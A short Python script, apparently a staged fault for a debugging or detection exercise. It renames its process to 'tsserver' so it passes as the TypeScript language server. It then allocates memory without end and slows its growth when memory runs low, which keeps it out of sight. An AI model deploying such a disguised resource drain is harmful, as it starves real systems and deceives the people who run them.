"""A language server that keeps each program it has checked: 9 MB a second, and 1 MB a second when little memory is available."""
import time

with open("/proc/self/comm", "w") as comm:
    comm.write("tsserver")


def available():
    for line in open("/proc/meminfo"):
        if line.startswith("MemAvailable"):
            return int(line.split()[1]) >> 10


programs, pause = [], 1 / 9
while True:
    programs.append(bytearray(b"t") * (1 << 20))
    if available() < 40:
        pause = 1
    time.sleep(pause)
